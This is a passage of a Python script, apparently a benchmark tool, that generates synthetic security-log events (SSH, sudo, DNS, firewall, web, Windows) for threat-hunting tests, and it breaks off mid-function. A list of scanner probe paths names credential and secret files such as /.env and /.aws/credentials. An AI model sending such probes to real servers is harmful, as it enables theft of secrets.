#!/usr/bin/env python3
"""Seeded generator of realistic SOC events (ECS-shaped NDJSON) for the event-store benchmarks.

Usage:
    generate_events.py --events N --seed S --out FILE.ndjson [--start 2026-10-01T00:00:00Z --days 30]

The same (N, seed, start, days) always gives byte-identical output. Background traffic is a mix
of Linux auth (sshd, sudo), DNS (BIND query log), firewall (UFW), web access (nginx combined)
and Windows (Security 4624/4625/4688, Sysmon 1/11/15) with Zipf-skewed users, hosts, domains,
IPs and user agents. A fixed set of attack traces is planted on top (see `Planter`), so the
hunting queries in queries.sql find small, interesting results at any size from ~100k events up.

Speed matters (20M+ events): every pool value is JSON-escaped once up front, events are built
with f-strings from escaped pieces (escaping is per character, so a concatenation of escaped
pieces is the escaped concatenation), Zipf picks are table lookups, and timestamps are
formatted from per-day and per-second-of-day string tables.
"""
from __future__ import annotations

import argparse
import base64
import datetime as dt
import hashlib
import json
import string
import sys
import time

import random

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
TABLE_BITS = 20  # Zipf lookup tables have 2**20 slots: items down to ~1e-6 probability exist.


def je(text: str) -> str:
    """JSON-escapes a string (without the surrounding quotes)."""
    return json.dumps(text, ensure_ascii=False)[1:-1]


def zipf_table(items: list, s: float, bits: int = TABLE_BITS) -> list:
    """A lookup table over `items` where item i (0-based) has weight 1/(i+1)**s; every item
    gets at least one slot. Pick with `table[getrandbits(bits)]`."""
    size = 1 << bits
    n = len(items)
    weights = [1.0 / (i + 1) ** s for i in range(n)]
    total = sum(weights)
    free = size - n  # one guaranteed slot each, the rest shared by weight
    table: list = []
    acc = 0.0
    placed = 0
    for i, w in enumerate(weights):
        acc += w
        upto = round(acc / total * free)
        count = upto - placed + 1
        placed = upto
        table.extend([items[i]] * count)
    assert len(table) == size, (len(table), size)
    return table


def weighted_table(pairs: list[tuple[object, float]], bits: int = 12) -> list:
    """A lookup table for explicit (item, weight) pairs (no guaranteed slot)."""
    size = 1 << bits
    total = sum(w for _, w in pairs)
    table: list = []
    acc = 0.0
    placed = 0
    for item, w in pairs:
        acc += w
        upto = round(acc / total * size)
        table.extend([item] * (upto - placed))
        placed = upto
    assert len(table) == size
    return table


# ----------------------------------------------------------------------------------------------
# Static vocabularies
# ----------------------------------------------------------------------------------------------
FIRST = ("james mary john patricia robert jennifer michael linda william elizabeth david barbara "
         "richard susan joseph jessica thomas sarah charles karen daniel nancy matthew lisa anthony "
         "betty mark margaret donald sandra steven ashley paul kimberly andrew emily joshua donna "
         "kenneth michelle kevin carol brian amanda george melissa timothy deborah ronald stephanie "
         "jason rebecca edward laura jeffrey sharon ryan cynthia jacob kathleen gary amy nicholas "
         "angela eric helen jonathan anna stephen brenda larry pamela justin nicole scott emma "
         "brandon samantha benjamin katherine samuel christine gregory debra alexander rachel "
         "frank carolyn patrick janet raymond catherine jack maria dennis heather jerry diane").split()
LAST = ("smith johnson williams brown jones garcia miller davis rodriguez martinez hernandez lopez "
        "gonzalez wilson anderson thomas taylor moore jackson martin lee perez thompson white harris "
        "sanchez clark ramirez lewis robinson walker young allen king wright scott torres nguyen hill "
        "flores green adams nelson baker hall rivera campbell mitchell carter roberts gomez phillips "
        "evans turner diaz parker cruz edwards collins reyes stewart morris morales murphy cook "
        "rogers gutierrez ortiz morgan cooper peterson bailey reed kelly howard ramos kim cox ward "
        "richardson watson brooks chavez wood james bennett gray mendoza ruiz hughes price alvarez").split()
WORDS = ("cloud data net web app shop news media blue red green fast smart secure link hub zone "
         "tech soft micro mega info star sun moon river lake stone wood fire ice bright prime core "
         "edge metro global local city world north south east west alpha beta delta omega nova "
         "pixel byte code logic sync stream cast play game music photo video travel food health "
         "bank pay trade market store home auto bike sport team club learn book read write mail "
         "chat talk social friend life style green garden farm pet kids baby fashion beauty").split()
TLDS = ["com"] * 12 + ["net"] * 4 + ["org"] * 3 + ["io", "co", "de", "co.uk", "fr", "nl", "info", "app", "dev", "ru", "cn", "br", "in", "jp"]
POPULAR_DOMAINS = [
    "google.com", "www.google.com", "microsoft.com", "login.microsoftonline.com", "outlook.office365.com",
    "graph.microsoft.com", "teams.microsoft.com", "windowsupdate.com", "update.microsoft.com",
    "settings-win.data.microsoft.com", "v10.events.data.microsoft.com", "ctldl.windowsupdate.com",
    "officecdn.microsoft.com", "onedrive.live.com", "github.com", "api.github.com", "slack.com",
    "zoom.us", "www.youtube.com", "i.ytimg.com", "fonts.googleapis.com", "fonts.gstatic.com",
    "www.gstatic.com", "apis.google.com", "accounts.google.com", "clients4.google.com",
    "safebrowsing.googleapis.com", "update.googleapis.com", "www.bing.com", "edge.microsoft.com",
    "amazon.com", "s3.amazonaws.com", "ec2.us-east-1.amazonaws.com", "cloudflare.com",
    "cdnjs.cloudflare.com", "ajax.googleapis.com", "www.linkedin.com", "static.licdn.com",
    "www.facebook.com", "connect.facebook.net", "twitter.com", "abs.twimg.com", "wikipedia.org",
    "en.wikipedia.org", "ocsp.digicert.com", "crl3.digicert.com", "ocsp.pki.goog", "r3.o.lencr.org",
    "time.windows.com", "ntp.ubuntu.com", "archive.ubuntu.com", "security.ubuntu.com",
    "deb.debian.org", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "crates.io",
    "docker.io", "registry-1.docker.io", "auth.docker.io", "dropbox.com", "salesforce.com",
    "okta.com", "acme-corp.okta.com", "acme-corp.sharepoint.com", "acme-corp-my.sharepoint.com",
    "wpad.corp.acme.local", "dc01.corp.acme.local", "dc02.corp.acme.local", "fs01.corp.acme.local",
    "_ldap._tcp.dc._msdcs.corp.acme.local", "_kerberos._tcp.corp.acme.local", "intranet.corp.acme.local",
    "jira.corp.acme.local", "confluence.corp.acme.local", "gitlab.corp.acme.local",
]
SUBS = ["www", "api", "cdn", "static", "img", "m", "app", "mail", "login", "assets", "media", "auth"]

COMMON_COUNTRIES = [("US", 30), ("DE", 8), ("GB", 7), ("FR", 5), ("NL", 6), ("CN", 9), ("RU", 6),
                    ("BR", 4), ("IN", 5), ("JP", 3), ("SG", 3), ("KR", 3), ("VN", 3), ("UA", 2),
                    ("CA", 3), ("AU", 2), ("PL", 2), ("IT", 2), ("ES", 2), ("SE", 1), ("TR", 2),
                    ("ID", 2), ("HK", 2), ("RO", 1), ("AR", 1), ("ZA", 1), ("IR", 0.3), ("NG", 0.3)]
# Countries that only planted attackers come from.
RARE_COUNTRIES = ["KP", "TM", "SY", "BY"]

UA_BROWSERS = []
for _v in range(118, 131):
    UA_BROWSERS += [
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{_v}.0.0.0 Safari/537.36",
        f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{_v}.0.0.0 Safari/537.36",
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{_v}.0.0.0 Safari/537.36 Edg/{_v}.0.0.0",
        f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{_v}.0.0.0 Safari/537.36",
        f"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{_v}.0.0.0 Mobile Safari/537.36",
    ]
for _v in range(115, 131):
    UA_BROWSERS += [
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{_v}.0) Gecko/20100101 Firefox/{_v}.0",
        f"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{_v}.0) Gecko/20100101 Firefox/{_v}.0",
    ]
for _v in ("16.6", "17.0", "17.1", "17.2", "17.3", "17.4", "17.5", "17.6", "18.0", "18.1"):
    UA_BROWSERS += [
        f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{_v} Safari/605.1.15",
        f"Mozilla/5.0 (iPhone; CPU iPhone OS {_v.replace('.', '_')} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{_v} Mobile/15E148 Safari/604.1",
    ]
UA_BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "curl/8.5.0", "curl/7.88.1", "python-requests/2.31.0", "python-requests/2.32.3", "Go-http-client/1.1",
    "Wget/1.21.4", "okhttp/4.12.0", "Apache-HttpClient/4.5.14 (Java/17.0.9)", "kube-probe/1.29",
    "Prometheus/2.51.0", "Datadog Agent/7.52.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
]

WEB_SITES = ["www.acme-corp.com", "shop.acme-corp.com", "api.acme-corp.com", "portal.acme-corp.com"]
WEB_HOSTS = ["web01", "web02", "web03", "web04"]
LINUX_HOSTS = (["bastion01", "bastion02", "vpn01", "git01", "ci01", "ci02", "db01", "db02", "db03", "mq01",
                "cache01", "mon01", "log01", "backup01"] + WEB_HOSTS + [f"k8s-node{i:02d}" for i in range(1, 13)])
EXPOSED_LINUX = ["bastion01", "bastion02", "vpn01", "git01"]  # sshd reachable from the internet
LINUX_ACCOUNTS = ["deploy", "ansible", "git", "jenkins", "postgres", "backup", "ubuntu", "root"]
SCAN_USERS = ["root", "admin", "test", "user", "ubuntu", "oracle", "postgres", "guest", "pi", "ftpuser",
              "support", "git", "deploy", "mysql", "dev", "hadoop", "nagios", "minecraft", "steam",
              "ubnt", "administrator", "test1", "user1", "teamspeak", "centos", "ec2-user", "zabbix",
              "jenkins", "tomcat", "www", "web", "elastic", "kafka", "redis", "es", "vagrant", "docker",
              "server", "student", "testuser", "demo", "sysadmin", "odoo", "sftp", "uucp", "bin"]
SUDO_CMDS = ["/usr/bin/apt update", "/usr/bin/apt upgrade -y", "/usr/bin/systemctl restart nginx",
             "/usr/bin/systemctl status nginx", "/usr/bin/journalctl -u nginx --since today",
             "/usr/bin/docker ps", "/usr/bin/docker compose up -d", "/usr/bin/tail -f /var/log/syslog",
             "/usr/bin/cat /var/log/auth.log", "/usr/bin/less /var/log/nginx/error.log",
             "/usr/bin/systemctl restart postgresql", "/usr/bin/kubectl get pods -A",
             "/usr/sbin/iptables -L -n", "/usr/bin/vim /etc/nginx/sites-available/default",
             "/usr/bin/du -sh /var/lib/docker", "/usr/bin/df -h", "/usr/bin/crontab -l",
             "/usr/bin/apt install -y htop", "/usr/sbin/reboot", "/usr/bin/chown -R deploy:deploy /srv/app"]

WEB_PATHS = (["/", "/index.html", "/favicon.ico", "/robots.txt", "/login", "/logout", "/cart", "/checkout",
              "/search", "/account", "/account/orders", "/api/v1/health", "/api/v1/session", "/api/v1/cart",
              "/api/v1/search", "/static/css/main.css", "/static/js/app.js", "/static/js/vendor.js",
              "/sitemap.xml", "/about", "/contact", "/careers", "/blog", "/help", "/privacy", "/terms"]
             + [f"/api/v1/products/{i}" for i in range(1, 150)]
             + [f"/products/{w}-{x}" for w in WORDS[:30] for x in ("shirt", "mug", "hat")]
             + [f"/static/img/{w}.webp" for w in WORDS]
             + [f"/blog/{w}-{y}" for w in WORDS[:40] for y in ("tips", "news")])
SCANNER_PATHS = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/admin/", "/wp-admin/",
                 "/xmlrpc.php", "/server-status", "/config.php", "/.aws/credentials", "/actuator/env",
                 "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/",
                 "/remote/login", "/HNAP1", "/boaform/admin/formLogin", "/solr/admin/info/system"]
FW_OUT_PORTS = [(443, "tcp", 70), (80, "tcp", 12), (53, "udp", 4), (123, "udp", 2), (22, "tcp", 1),
                (8443, "tcp", 2), (993, "tcp", 2), (587, "tcp", 1), (3478, "udp", 3), (5222, "tcp", 1),
                (8080, "tcp", 1), (445, "tcp", 0.05), (3389, "tcp", 0.05)]
FW_IN_DENY_PORTS = [22, 23, 445, 3389, 80, 8080, 443, 5900, 1433, 3306, 6379, 5432, 25, 21, 8443, 9200,
                    2323, 5555, 7547, 8888, 27017, 9000, 8000, 81, 10000, 2375]
FW_IN_DENY_UDP_PORTS = [53, 123, 161, 1900, 5060, 137, 500, 11211, 389, 19, 69, 5353, 3702, 1194]

WIN_SERVERS = ["DC01", "DC02", "FS01", "FS02", "SQL01", "SQL02", "EXCH01", "APP01", "APP02", "RDS01",
               "PRINT01", "WSUS01", "SCCM01", "CA01"]
WIN_SERVICE_ACCOUNTS = ["svc_backup", "svc_sql", "svc_web", "svc_sccm", "svc_scan", "svc_print", "svc_monitor"]

SYS32 = "C:\\Windows\\System32\\"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
EXPLORER = "C:\\Windows\\explorer.exe"
SVCHOST = SYS32 + "svchost.exe"
SERVICES = SYS32 + "services.exe"
SVC_GROUPS = ["netsvcs -p -s Schedule", "netsvcs -p -s gpsvc", "netsvcs -p -s Winmgmt", "LocalServiceNetworkRestricted -p -s Dhcp",
              "NetworkService -p -s Dnscache", "LocalSystemNetworkRestricted -p -s SysMain", "netsvcs -p -s BITS",
              "wusvcs -p -s WaaSMedicSvc", "LocalService -p -s EventLog", "DcomLaunch -p", "RPCSS -p",
              "UnistackSvcGroup", "appmodel -p -s StateRepository", "netsvcs -p -s wuauserv",
              "LocalServiceNoNetwork -p -s DPS", "utcsvc -p", "netsvcs -p -s Appinfo", "LocalService -p -s CDPSvc"]


def normal_process_pairs() -> list[tuple[str, str, str, float]]:
    """(parent executable, child executable, command line, weight) of everyday Windows activity."""
    pairs: list[tuple[str, str, str, float]] = []
    for g in SVC_GROUPS:
        pairs.append((SERVICES, SVCHOST, f"C:\\Windows\\system32\\svchost.exe -k {g}", 3.0))
    for child, cmd, w in [
        ("taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", 6),
        ("RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", 8),
        ("backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountBackgroundTask", 5),
        ("wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", 5),
        ("dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", 5),
        ("CompatTelRunner.exe", "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun", 1),
        ("MoUsoCoreWorker.exe", "C:\\Windows\\System32\\mousocoreworker.exe -Embedding", 2),
        ("gpupdate.exe", "gpupdate.exe /target:computer", 0.5),
        ("sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", 1),
        ("wermgr.exe", "C:\\Windows\\system32\\wermgr.exe -upload", 0.7),
        ("SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646", 3),
    ]:
        pairs.append((SVCHOST, SYS32 + child, cmd, w))
    for exe, cmd, w in [
        (CHROME, f"\"{CHROME}\"", 10), (EDGE, f"\"{EDGE}\" --single-argument https://acme-corp.sharepoint.com/", 5),
        (OFFICE + "OUTLOOK.EXE", f"\"{OFFICE}OUTLOOK.EXE\"", 6), (OFFICE + "WINWORD.EXE", f"\"{OFFICE}WINWORD.EXE\" /n", 4),
        (OFFICE + "EXCEL.EXE", f"\"{OFFICE}EXCEL.EXE\"", 4), (OFFICE + "POWERPNT.EXE", f"\"{OFFICE}POWERPNT.EXE\"", 1),
        ("C:\\Program Files\\WindowsApps\\MSTeams_24335.206.3315.1160_x64__8wekyb3d8bbwe\\ms-teams.exe", "\"ms-teams.exe\" --system-initiated", 5),
        ("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background", 3),
        (SYS32 + "notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\"", 2), (SYS32 + "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"", 1),
        (PS, f"\"{PS}\"", 0.6), (SYS32 + "mmc.exe", "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\compmgmt.msc\"", 0.3),
        ("C:\\Program Files\\7-Zip\\7zFM.exe", "\"C:\\Program Files\\7-Zip\\7zFM.exe\"", 0.4),
        ("C:\\Program Files\\Notepad++\\notepad++.exe", "\"C:\\Program Files\\Notepad++\\notepad++.exe\"", 0.5),
    ]:
        pairs.append((EXPLORER, exe, cmd, w))
    for t in ("renderer", "utility", "gpu-process", "crashpad-handler"):
        for i in range(1, 9):
            pairs.append((CHROME, CHROME, f"\"{CHROME}\" --type={t} --field-trial-handle=1960,i,{1000 + 37 * i},{5000 + 11 * i},262144 --lang=en-US --renderer-client-id={i + 4} /prefetch:{i % 8 + 1}", 12 / 8))
            pairs.append((EDGE, EDGE, f"\"{EDGE}\" --type={t} --field-trial-handle=2216,i,{2000 + 41 * i},{7000 + 13 * i},262144 --lang=en-US /prefetch:{i % 8 + 1}", 5 / 8))
    for child, cmd, w in [("conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", 1.0),
                          ("ipconfig.exe", "ipconfig /all", 0.2), ("ping.exe", "ping -n 4 fs01.corp.acme.local", 0.15),
                          ("whoami.exe", "whoami", 0.03), ("net.exe", "net use Z: \\\\fs01\\shared", 0.1),
                          ("nslookup.exe", "nslookup intranet.corp.acme.local", 0.05), ("tasklist.exe", "tasklist", 0.03)]:
        pairs.append((SYS32 + "cmd.exe", SYS32 + child, cmd, w))
    pairs.append((PS, SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", 0.5))
    pairs.append((OFFICE + "WINWORD.EXE", SYS32 + "splwow64.exe", "C:\\Windows\\splwow64.exe 12288", 0.3))
    pairs.append((OFFICE + "OUTLOOK.EXE", CHROME, f"\"{CHROME}\" --single-argument https://portal.acme-corp.com/news", 0.8))
    pairs.append((SYS32 + "msiexec.exe", SYS32 + "msiexec.exe", "C:\\Windows\\System32\\MsiExec.exe -Embedding 5A3F0E1BDA9C4C01B1A", 0.3))
    pairs.append(("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                  "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
                  "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe\" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate", 0.8))
    pairs.append((SYS32 + "wininit.exe", SYS32 + "lsass.exe", "C:\\Windows\\system32\\lsass.exe", 0.05))
    pairs.append(("C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
                  "C:\\Program Files\\Microsoft SQL Server\\160\\Tools\\Binn\\SQLCMD.EXE", "SQLCMD.EXE -S localhost -Q \"BACKUP DATABASE [erp] TO DISK='E:\\bak\\erp.bak'\"", 0.05))
    return pairs


def base_name(path: str) -> str:
    return path.rsplit("\\", 1)[-1]


class Clock:
    """Per-day and per-second-of-day strings, so formatting a time is a few lookups."""

    def __init__(self, start_s: int, days: int):
        self.d0 = start_s // 86400
        self.iso, self.syslog, self.nginx, self.bind = [], [], [], []
        for k in range(days + 3):
            day = dt.datetime.fromtimestamp((self.d0 + k) * 86400, dt.timezone.utc)
            self.iso.append(day.strftime("%Y-%m-%d"))
            self.syslog.append(f"{MONTHS[day.month - 1]} {day.day:2d}")
            self.nginx.append(f"{day.day:02d}/{MONTHS[day.month - 1]}/{day.year}")
            self.bind.append(f"{day.day:02d}-{MONTHS[day.month - 1]}-{day.year}")
        self.sod = [f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)]


class Generator:
    def __init__(self, seed: int, start_s: int, days: int):
        self.seed = seed
        self.start_us = start_s * 1_000_000
        self.span_us = days * 86400 * 1_000_000
        self.days = days
        self.clock = Clock(start_s, days)
        rng = random.Random(f"palisade-store-pools-{seed}")
        self.pool_rng = rng

        # --- people and machines ----------------------------------------------------------
        users = sorted({f"{f[0]}{l}" for f in FIRST for l in LAST})
        rng.shuffle(users)
        self.win_users = users[:1500]
        n_ws = 900
        self.workstations = [f"WS-{i:04d}" for i in range(1, n_ws + 1)]
        self.ws_ip = {h: f"10.10.{i // 250}.{i % 250 + 2}" for i, h in enumerate(self.workstations)}
        self.user_home = {u: self.workstations[i % n_ws] for i, u in enumerate(self.win_users)}
        self.server_ip = {h: f"10.20.0.{i + 10}" for i, h in enumerate(WIN_SERVERS)}
        self.linux_ip = {h: f"10.30.{i // 200}.{i % 200 + 10}" for i, h in enumerate(LINUX_HOSTS)}
        self.linux_staff = [u for u in self.win_users[:60]]
        self.linux_users = LINUX_ACCOUNTS + self.linux_staff
        self.resolvers = [("dns01", "10.20.1.53"), ("dns02", "10.20.2.53")]
        self.firewalls = ["fw-edge01", "fw-edge02"]
        self.public_ips = [f"198.51.100.{i}" for i in range(10, 30)]

        # --- external IPs with countries (planted attackers get their own, never reused) -----
        ext: set[str] = set()
        first_octets = [o for o in range(1, 224) if o not in (10, 127, 100, 169, 172, 192, 198, 203, 0)]
        while len(ext) < 60000:
            ext.add(f"{rng.choice(first_octets)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}")
        ext_list = sorted(ext)
        rng.shuffle(ext_list)
        self.planted_ips = ext_list[:200]
        ext_list = ext_list[200:]
        country_table = weighted_table(COMMON_COUNTRIES)
        self.country = {ip: country_table[rng.getrandbits(12)] for ip in ext_list}
        for i, ip in enumerate(self.planted_ips):
            self.country[ip] = COMMON_COUNTRIES[i % 8][0]
        self.geo_frag = {ip: f',"geo":{{"country_iso_code":"{c}"}}' for ip, c in self.country.items()}
        scanners = ext_list[:20000]
        web_clients = ext_list[15000:]
        rng.shuffle(web_clients)

        # --- Zipf tables ------------------------------------------------------------------
        r = rng
        self.t_scan_ip = zipf_table(scanners, 1.15)
        self.t_web_ip = zipf_table(web_clients, 0.9)
        self.t_win_user = zipf_table(self.win_users, 0.8)
        self.t_ws = zipf_table(rng.sample(self.workstations, len(self.workstations)), 0.6)
        self.t_server = zipf_table(WIN_SERVERS, 1.0)
        self.t_linux_host = zipf_table(LINUX_HOSTS, 0.9)
        self.t_exposed = zipf_table(EXPOSED_LINUX, 1.2)
        self.t_linux_user = zipf_table(self.linux_users, 1.0)
        self.t_scan_user = zipf_table(SCAN_USERS, 1.1)
        self.t_sudo_cmd = zipf_table([je(c) for c in SUDO_CMDS], 1.0)

        domains = list(POPULAR_DOMAINS)
        seen = set(domains)
        while len(domains) < 12000:
            n = rng.random()
            base = rng.choice(WORDS) + rng.choice(WORDS) + (str(rng.randrange(100)) if n < 0.1 else "")
            d = f"{base}.{rng.choice(TLDS)}"
            if rng.random() < 0.6:
                d = f"{rng.choice(SUBS)}.{d}"
            if d not in seen:
                seen.add(d)
                domains.append(d)
        self.t_domain = zipf_table(domains, 1.05)
        self.dns_clients = [self.ws_ip[w] for w in self.workstations] + list(self.server_ip.values()) + list(self.linux_ip.values())
        self.t_dns_client = zipf_table(rng.sample(self.dns_clients, len(self.dns_clients)), 0.7)
        self.t_qtype = weighted_table([("A", 68), ("AAAA", 20), ("HTTPS", 4), ("PTR", 3), ("TXT", 1.5), ("MX", 1),
                                       ("SRV", 1.5), ("CNAME", 0.6), ("NS", 0.3), ("SOA", 0.1)])
        self.t_rcode = weighted_table([("NOERROR", 95), ("NXDOMAIN", 4), ("SERVFAIL", 0.8), ("REFUSED", 0.2)])

        self.t_path = zipf_table(WEB_PATHS, 1.0)
        uas = list(UA_BROWSERS)
        rng.shuffle(uas)
        uas = uas[:12] + UA_BOTS[:6] + uas[12:] + UA_BOTS[6:]
        self.t_ua = zipf_table([je(u) for u in uas], 1.2)
        self.t_method = weighted_table([("GET", 85), ("POST", 11), ("HEAD", 2), ("PUT", 0.8), ("DELETE", 0.4), ("OPTIONS", 0.8)])
        self.t_status = weighted_table([(200, 80), (304, 6), (301, 1.5), (302, 2), (404, 7), (403, 1), (401, 1),
                                        (500, 0.4), (502, 0.2), (503, 0.1), (206, 0.5), (400, 0.3)])
        self.t_site = weighted_table([(s, w) for s, w in zip(WEB_SITES, (55, 25, 15, 5))])
        self.t_web_host = zipf_table(WEB_HOSTS, 0.3)
        self.t_referrer = weighted_table([("-", 50), ("https://www.google.com/", 25), ("https://www.acme-corp.com/", 15),
                                          ("https://shop.acme-corp.com/cart", 5), ("https://www.bing.com/", 3), ("https://t.co/", 2)])

        self.t_fw_out = weighted_table([((p, t), w) for p, t, w in FW_OUT_PORTS])
        self.t_fw_in_port = zipf_table(FW_IN_DENY_PORTS, 1.0)
        self.t_fw_in_udp = zipf_table(FW_IN_DENY_UDP_PORTS, 1.0)
        self.t_dest_ext = zipf_table(ext_list[30000:], 1.1)

        pairs = normal_process_pairs()
        self.t_proc = weighted_table([((je(p), je(c), je(base_name(c)), je(cmd), c), w) for p, c, cmd, w in pairs], bits=16)
        self.hashes: dict[str, list[str]] = {}
        for _p, c, _cmd, _w in pairs:
            if c not in self.hashes:
                nver = 1 + (rng.random() < 0.4) + (rng.random() < 0.2)
                self.hashes[c] = [hashlib.sha256(f"{seed}:{c}:{v}".encode()).hexdigest() for v in range(nver)]
        self.t_logon_type = weighted_table([("3", 62), ("2", 6), ("5", 12), ("7", 8), ("10", 2), ("11", 5), ("4", 5)])
        self.t_file_dir = weighted_table([("C:\\Users\\{u}\\Downloads\\", 3), ("C:\\Users\\{u}\\AppData\\Local\\Temp\\", 5),
                                          ("C:\\Users\\{u}\\Documents\\", 3), ("C:\\Windows\\Temp\\", 2),
                                          ("C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\", 2)])
        self.t_file_name = zipf_table([f"{w}_{x}.{e}" for w in WORDS[:40] for x in ("report", "notes", "q3", "draft", "final") for e in ("docx", "xlsx", "pdf", "tmp", "zip")], 1.0)

        self.uptime0 = rng.randrange(100000, 2000000)
        self.record_id = {}

    # ------------------------------------------------------------------------------------------
    # time helpers
    # ------------------------------------------------------------------------------------------
    def times(self, t: int) -> tuple[str, int, int, int]:
        s, us = divmod(t, 1_000_000)
        d, x = divmod(s, 86400)
        k = d - self.clock.d0
        return f"{self.clock.iso[k]}T{self.clock.sod[x]}.{us:06d}Z", k, x, us

    # ------------------------------------------------------------------------------------------
    # event builders: each returns one JSON line (without newline)
    # ------------------------------------------------------------------------------------------
    def ssh(self, t: int, rnd, host: str, user: str, ip: str, port: int, pid: int, kind: str) -> str:
        """kind: failed, failed_invalid, invalid, accepted_password, accepted_publickey"""
        iso, k, x, _ = self.times(t)
        geo = self.geo_frag.get(ip, "")
        if kind == "failed":
            msg = f"Failed password for {user} from {ip} port {port} ssh2"
            action, outcome = "ssh_login", "failure"
        elif kind == "failed_invalid":
            msg = f"Failed password for invalid user {user} from {ip} port {port} ssh2"
            action, outcome = "ssh_login", "failure"
        elif kind == "invalid":
            msg = f"Invalid user {user} from {ip} port {port}"
            action, outcome = "invalid_user", "failure"
        elif kind == "accepted_password":
            msg = f"Accepted password for {user} from {ip} port {port} ssh2"
            action, outcome = "ssh_login", "success"
        else:
            fp = hashlib.sha256(user.encode()).digest()
            msg = f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{base64.b64encode(fp).decode()[:43]}"
            action, outcome = "ssh_login", "success"
        method = "password" if "password" in msg else ("publickey" if "publickey" in msg else None)
        extra = f',"system":{{"auth":{{"ssh":{{"method":"{method}"}}}}}}' if method else ""
        orig = f"{self.clock.syslog[k]} {self.clock.sod[x]} {host} sshd[{pid}]: {msg}"
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"system.auth","module":"system","kind":"event",'
                f'"category":["authentication"],"type":["{"start" if outcome == "success" else "info"}"],"action":"{action}","outcome":"{outcome}",'
                f'"original":"{orig}"}},"host":{{"name":"{host}","os":{{"type":"linux"}}}},"user":{{"name":"{user}"}},'
                f'"source":{{"ip":"{ip}","port":{port}{geo}}},"process":{{"name":"sshd","pid":{pid}}}{extra},'
                f'"log":{{"file":{{"path":"/var/log/auth.log"}}}},"message":"{msg}"}}')

    def sudo(self, t: int, host: str, user: str, cmd_e: str, pid: int) -> str:
        iso, k, x, _ = self.times(t)
        msg = f"{user} : TTY=pts/{pid % 7} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd_e}"
        orig = f"{self.clock.syslog[k]} {self.clock.sod[x]} {host} sudo[{pid}]:     {msg}"
        return (f'{{"@timestamp":"{iso}","event":{{"dataset":"system.auth","module":"system","kind":"event",'
                f'"category":["process"],"type":["start"],"action":"sudo","outcome":"success","original":"{orig}"}},'
                f'"host":{{"name":"{host}","os":{{"type":"linux"}}}},"user":{{"name":"{user}","effective":{{"name":"root"}}}},'
                f'"process":{{"name":"sudo","pid":{pid},"command_line":"{cmd_e}","executable":"/usr/bin/sudo"}},'
